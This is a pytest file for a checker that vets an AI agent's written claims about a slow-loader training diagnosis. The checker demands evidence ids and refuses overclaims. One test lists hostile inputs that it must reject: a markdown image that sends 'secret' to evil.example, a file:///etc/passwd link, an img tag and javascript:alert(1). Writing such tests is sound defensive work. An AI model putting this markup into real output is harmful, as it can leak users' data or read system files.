"""Claims in words against a diagnosis that found a slow loader and could not check compilation."""

from __future__ import annotations

import pytest

from hermes_agent.evidence.grounds import grounds
from hermes_agent.evidence.verifier import Grounds
from hermes_agent.writing.claims import Bearings, faults
from tests.hermes_agent.writing.slow_loader import diagnosis, id_of

STEP = id_of("step_time_ms", statistic="mean")
COST = id_of("cause_impact_ms", cause="slow_data_processing")
LAUNCHES = id_of("cause_impact_ms", cause="operator_dispatch")
CASE_URL = "https://github.com/pytorch/pytorch/issues/1"


def bearings(known: Grounds | None = None, urls: frozenset[str] = frozenset()) -> Bearings:
    evidence = {record.id: record for record in diagnosis().evidence}
    return Bearings(diagnosis(), known or grounds(diagnosis()), evidence, urls)


def details(text: str, cite_all: bool = False) -> list[str]:
    return [fault.detail for fault in faults(text, bearings(), cite_all=cite_all)]


@pytest.mark.parametrize(
    "text",
    [
        f"The data loader is the bottleneck: it costs 40.0 ms [{COST}].",
        f"Data input is slow because of too few workers [{COST}].",
        "Whether recompilation plays a part could not be checked.",
        "The network cannot be ruled out.",
        "It is not known from these files; `TORCH_LOGS=recompiles` would tell.",
        "Garbage collection was not checked.",
        "Setting `num_workers` above zero loads batches in other processes.",
        f"Small operators are not a problem [{LAUNCHES}].",
    ],
)
def test_what_the_diagnosis_bears_out_or_leaves_open_passes(text: str) -> None:
    assert details(text) == []


def test_the_address_of_a_recalled_case_may_be_named_with_its_id() -> None:
    known = Grounds({}, {"C1": CASE_URL})
    assert faults(f"See {CASE_URL} [C1].", bearings(known, frozenset({CASE_URL})), cite_all=True) == []
    assert faults(f"See {CASE_URL} [C1].", bearings(known), cite_all=True) != []


def test_one_check_of_several_is_not_enough_to_clear_a_cause() -> None:
    told = details(f"Memory allocation is fine [{STEP}].")
    assert told[0] == "memory pressure is called fine, but memory_pressure could not be checked in this run"


@pytest.mark.parametrize(
    "text",
    [
        "There is no sign of recompilation.",
        "There are no issues with garbage collection.",
        "No problem with the network was found.",
        "I cannot find any problem with the network.",
        "The network looks fine.",
        "The network is not the problem.",
        "A slow device is ruled out.",
        "Garbage collection does not matter here.",
        "The loader is slow, but the network, storage and the GPU are all fine.",
        "The environment works as expected.",
    ],
)
def test_what_could_not_be_checked_is_never_called_fine(text: str) -> None:
    assert any("could not be checked" in detail for detail in details(f"{text[:-1]} [{COST}]."))


@pytest.mark.parametrize("text", ["The data loader works well.", "There is no problem with data input."])
def test_what_was_found_is_never_called_fine(text: str) -> None:
    assert any("lists slow_data_processing" in detail for detail in details(text))


@pytest.mark.parametrize(
    "text", ["Everything else is fine.", "All other checks are clean.", "No problem was found in everything else."]
)
def test_not_everything_is_fine_while_checks_are_open(text: str) -> None:
    assert any("not everything could be checked" in detail for detail in details(text))


@pytest.mark.parametrize(
    "text",
    [
        "The network is the bottleneck.",
        "The step is slow because of garbage collection.",
        "The main cause is a straggler.",
        "Training is limited by memory bandwidth.",
        "It is just some device hardware malfunctioning.",
    ],
)
def test_what_was_not_found_is_not_blamed(text: str) -> None:
    assert any("lists no such cause" in detail for detail in details(f"{text[:-1]} [{COST}]."))


@pytest.mark.parametrize("text", ["The run is healthy.", "This training looks fine.", "Nothing needs fixing."])
def test_the_verdict_cannot_be_turned_round(text: str) -> None:
    assert any("the verdict is problem" in detail for detail in details(text))


@pytest.mark.parametrize(
    "words", ["half of", "twice", "a third of", "doubles", "tenfold", "an order of magnitude", "hundreds of"]
)
def test_figures_in_words_are_refused(words: str) -> None:
    assert any("figure in words" in detail for detail in details(f"The loader takes {words} the step [{COST}]."))


def test_a_figure_in_words_may_be_quoted_from_the_advice_that_is_cited() -> None:
    known = Grounds({}, {"A1": "Take about a quarter of the cores.", "A2": "Take all cores."})
    for name, count in (("A1", 0), ("A2", 1)):
        text = f"Take a quarter of the cores [{name}]."
        assert len(faults(text, bearings(known), cite_all=True)) == count


def test_ordinary_words_that_look_like_figures_pass() -> None:
    assert details("Half precision and double buffering are settings; the third cause is smaller.") == []


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        "<img src=x>",
        "[click](file:///etc/passwd)",
        "Open http://evil.example/a.",
        "javascript:alert(1)",
    ],
)
def test_markup_and_foreign_addresses_are_refused(text: str) -> None:
    assert details(text) != []


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (f"The network takes 40.0 ms [{COST}].", "= 40.0 ms, not about communication"),
        (f"Recompilation takes 40.0 ms [{COST}].", "= 40.0 ms, not about compilation"),
        (f"Memory allocation takes 40.0 ms [{COST}].", "= 40.0 ms, not about memory"),
    ],
)
def test_a_right_figure_under_a_wrong_name_is_refused(text: str, told: str) -> None:
    assert any(told in detail for detail in details(text))


@pytest.mark.parametrize(
    "text",
    [
        f"The data loader takes 40.0 ms [{COST}].",
        f"The network takes part in a step of 100 ms [{STEP}].",
        f"The GPU loses 40.0 ms [{COST}] because the loader is slow.",
        f"The host program comes second with 3.08 ms [{LAUNCHES}].",
    ],
)
def test_a_figure_fits_its_own_family_and_one_of_the_step_fits_anywhere(text: str) -> None:
    assert details(text) == []


@pytest.mark.parametrize("text", ["Rank 0 is late.", "In step 2 it stalls.", "This run loads too little."])
def test_what_is_said_of_this_run_needs_an_id_even_in_a_conversation(text: str) -> None:
    assert any("has no id" in detail for detail in details(text))


def test_every_sentence_needs_an_id_where_that_is_asked() -> None:
    text = "The loader is single-process. Whether more can be said is open."
    assert details(text) == []
    assert details(text, cite_all=True) == ["the sentence has no id; end it with the ids it rests on, or leave it out"]


def test_a_claim_that_blames_needs_an_id_even_in_a_conversation() -> None:
    assert details("The data loader is the bottleneck.") == [
        "the sentence has no id; end it with the ids it rests on, or leave it out"
    ]


def test_an_endless_answer_is_refused() -> None:
    assert "more than 8000 characters" in details("Load more. " * 1000)[0]
